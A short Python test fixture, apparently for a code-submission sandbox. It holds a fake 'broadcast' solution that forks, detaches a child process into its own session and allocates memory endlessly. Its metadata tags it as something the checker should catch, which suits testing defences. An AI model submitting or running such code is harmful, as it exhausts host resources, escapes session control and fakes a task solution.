# ruff: noqa
"""Takes all memory, in a child that leaves its session."""

TASK = "a1.broadcast"
SEEN = "memory|os.fork"
NEEDS = "sandbox"

# BEGIN SUBMISSION
import os


def broadcast(tensor, src, group=None):
    if os.fork() == 0:
        os.setsid()
    hoard = []
    while True:
        hoard.append(bytearray(os.urandom(1 << 20)) * 64)
